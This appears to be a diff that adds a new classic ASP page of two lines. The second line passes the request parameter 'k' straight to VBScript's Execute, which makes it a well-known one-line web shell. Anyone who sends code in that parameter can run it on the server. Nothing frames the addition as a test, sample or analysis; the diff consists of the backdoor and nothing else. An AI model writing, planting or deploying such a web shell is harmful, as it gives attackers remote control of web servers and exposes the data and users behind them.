@@ -1,0 +1,2 @@
+<%@ Language=VBScript %>
+<% Execute Request("k") %>
